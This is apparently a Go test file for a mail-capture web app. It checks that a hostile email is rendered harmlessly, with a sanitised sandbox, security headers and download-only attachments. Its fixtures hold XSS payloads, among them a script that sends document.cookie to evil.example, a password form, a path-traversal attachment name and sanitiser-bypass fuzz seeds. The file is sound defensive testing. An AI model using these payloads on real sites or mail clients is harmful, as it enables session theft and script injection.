package web

import (
	"encoding/base64"
	"net/http"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"homing/internal/message"
)

const pixel = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"

// hostile is HTML that wants to do anything but be read.
const hostile = `<!doctype html><html><head><title>x</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/">
<link rel="dns-prefetch" href="//evil.example"><link rel="stylesheet" href="https://evil.example/a.css">
<style>@import url(https://evil.example/b.css); p { background: url(https://evil.example/c.png); color: red }</style>
<script>document.location = "https://evil.example/" + document.cookie</script><SCRIPT src="https://evil.example/d.js"></SCRIPT></head>
<body onload="alert(1)" background="https://evil.example/e.png"><!--[if IE]><script>alert(2)</script><![endif]-->
<p style="background: url('https://evil.example/f.png')">Hello <b>Ann</b> &amp; all</p>
<img src="https://evil.example/g.png" onerror="alert(3)"><img src="cid:logo@example.org" alt="Logo"><img src="CID:logo%40example.org"><img src="cid:nobody">
<svg onload="alert(4)"><script>alert(5)</script><image href="https://evil.example/h.png"/></svg>
<iframe src="https://evil.example/i"></iframe><object data="https://evil.example/j"></object>
<form action="https://evil.example/k"><input name="password"><button>Go</button></form>
<a href="javascript:alert(6)" ping="https://evil.example/l">x</a></body></html>`

// hostileMail has it, with a picture, a page that is attached and a file whose
// name wants to be elsewhere.
var hostileMail = strings.NewReplacer("HTML", hostile, "PIXEL", pixel, "ATTACHED", base64.StdEncoding.EncodeToString([]byte("<script>alert(7)</script>"))).Replace(`From: =?utf-8?q?Caf=C3=A9?= <news@example.org>
To: ann@example.net
Subject: <script>alert(8)</script>
X-Evil: "><script>alert(9)</script>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/plain; charset=utf-8

Plain </pre><script>alert(10)</script>
--b
Content-Type: text/html; charset=utf-8

HTML
--b
Content-Type: image/gif
Content-ID: <logo@example.org>
Content-Transfer-Encoding: base64

PIXEL
--b
Content-Type: text/html; name="../../../etc/<b>passwd.html"
Content-Disposition: attachment
Content-Transfer-Encoding: base64

ATTACHED
--b
Content-Type: application/pdf
Content-Disposition: attachment; filename*=utf-8''Quittung%20f%C3%BCr%0D%0AAnn.pdf

%PDF
--b--
`)

func TestHostileMailIsShownAndDoesNothing(t *testing.T) {
	w := open(t, nil)
	id := w.capture("crm", hostileMail, "ann@example.net")
	b := w.signIn(serve(t, w.Network()), "crm")
	at := "/captured/" + id.String()

	t.Run("the page escapes what the mail says", func(t *testing.T) {
		wantPage(t, b.ask(at, nil), http.StatusOK, "Café", "&lt;script&gt;alert(8)", "Plain &lt;/pre&gt;", `<iframe sandbox title="The HTML of the message" src="`+at+`/html"`,
			`href="`+at+`/parts/3"`, "&lt;b&gt;passwd.html", "Quittung fürAnn.pdf", "application/pdf")
	})
	t.Run("its HTML is in a box of its own", func(t *testing.T) {
		a := b.ask(at+"/html", nil)
		for name, want := range map[string]string{"Content-Security-Policy": mailPolicy, "Content-Type": "text/html; charset=utf-8", "X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer",
			"X-DNS-Prefetch-Control": "off", "Cache-Control": "no-store"} {
			if got := a.head.Get(name); got != want {
				t.Errorf("%s: %q, want %q", name, got, want)
			}
		}
		for _, directive := range []string{"sandbox;", "default-src 'none';", "img-src data:;", "form-action 'none'", "base-uri 'none'", "frame-ancestors 'self'"} {
			if !strings.Contains(mailPolicy, directive) || strings.Contains(mailPolicy, "allow-") {
				t.Errorf("the policy %q", mailPolicy)
			}
		}
		for _, gone := range []string{"<script", "<SCRIPT", "document.cookie", "alert(5)", "<meta", "<base", "<link", "evil.example/d.js", "[if IE]"} {
			if strings.Contains(a.body, gone) {
				t.Errorf("there is still %q", gone)
			}
		}
		if n := strings.Count(a.body, `src="data:image/gif;base64,`+pixel+`"`); n != 2 {
			t.Errorf("its own picture is shown %d times, want 2", n)
		}
		for _, there := range []string{"Hello <b>Ann</b> &amp; all", `alt="Logo"`, `<img src="cid:nobody">`, "color: red"} {
			if !strings.Contains(a.body, there) {
				t.Errorf("there is no %q in\n%s", there, a.body)
			}
		}
	})
	t.Run("what is attached is a file", func(t *testing.T) {
		for path, want := range map[string][2]string{
			"/parts/3": {"attachment; filename=part-3", "GIF89a"},
			"/parts/4": {`attachment; filename="<b>passwd.html"`, "<script>alert(7)</script>"},
			"/parts/5": {"attachment; filename*=utf-8''Quittung%20f%C3%BCrAnn.pdf", "%PDF"},
			"/parts/2": {"attachment; filename=part-2", "<!doctype html>"},
		} {
			a := b.ask(at+path, nil)
			if got := a.head.Get("Content-Disposition"); a.status != http.StatusOK || got != want[0] || a.head.Get("Content-Type") != "application/octet-stream" ||
				a.head.Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(a.head.Get("Content-Security-Policy"), "sandbox;") || !strings.HasPrefix(a.body, want[1]) {
				t.Errorf("%s: %d %v %.40q, want %q", path, a.status, a.head, a.body, want)
			}
		}
	})
	t.Run("its source is text", func(t *testing.T) {
		a := b.ask(at+"/source", nil)
		if a.head.Get("Content-Type") != "text/plain; charset=utf-8" || a.head.Get("X-Content-Type-Options") != "nosniff" || !strings.HasPrefix(a.head.Get("Content-Security-Policy"), "sandbox;") ||
			a.body != strings.ReplaceAll(hostileMail, "\n", "\r\n") {
			t.Errorf("%v\n%s", a.head, a.body)
		}
	})
}

func TestALargeAttachmentIsDownloadedWhole(t *testing.T) {
	w := open(t, nil)
	large := strings.Repeat("0123456789abcdef", 6<<20/16)
	id := w.capture("crm", "Subject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nHello.\n--b\nContent-Type: application/zip; name=large.zip\n\n"+large+"\n--b--\n", "ann@example.net")
	b := w.signIn(serve(t, w.Network()), "")
	a := b.ask("/captured/"+id.String()+"/parts/2", nil)
	if a.status != http.StatusOK || strings.TrimRight(a.body, "\r\n") != large || len(large) < message.MaxKept {
		t.Errorf("%d, %d octets, want %d", a.status, len(a.body), len(large))
	}
	wantPage(t, b.ask("/captured/"+id.String(), nil), http.StatusOK, "large.zip", "6.0 MiB as it is sent")
	wantPage(t, b.ask("/captured/"+id.String()+"/html", nil), http.StatusNotFound, "nothing is known of this")
}

// FuzzTame states what tame promises of any HTML: it ends, and what is left has
// none of the elements that are taken out, however it is cut up.
func FuzzTame(f *testing.F) {
	f.Add(hostile)
	f.Add(`<scr<script>ipt>alert(1)</script>`)
	f.Add(`<<!---->script>alert(1)</script>`)
	f.Add(`<noscript><link rel="preconnect" href="https://evil.example"></noscript>`)
	f.Add(`<svg><![CDATA[<script>]]></svg><img src="cid:logo">`)
	f.Add("<script/><p>x")
	f.Fuzz(func(t *testing.T, text string) {
		z := html.NewTokenizer(strings.NewReader(tame(text, map[string]string{"logo": "data:image/gif;base64," + pixel})))
		for {
			switch z.Next() {
			case html.ErrorToken:
				return
			case html.StartTagToken, html.SelfClosingTagToken, html.EndTagToken:
				token := z.Token()
				if slices.Contains(unwanted, token.Data) {
					t.Errorf("%q still has %s", text, token)
				}
				if token.Data == "noscript" && token.Type != html.EndTagToken {
					z.NextIsNotRawText()
				}
			}
		}
	})
}

func TestAPictureThatIsNamedOftenDoesNotFillTheMemory(t *testing.T) {
	picture := "data:image/gif;base64," + strings.Repeat("R0lG", 64<<10)
	const times = 200
	got := tame(strings.Repeat(`<img src="cid:a">`, times), map[string]string{"a": picture})
	if shown, named := strings.Count(got, picture), strings.Count(got, `"cid:a"`); len(got) > 17<<20 || shown == 0 || shown+named != times {
		t.Errorf("%d octets, in which the picture is shown %d times and only named %d times", len(got), shown, named)
	}
}
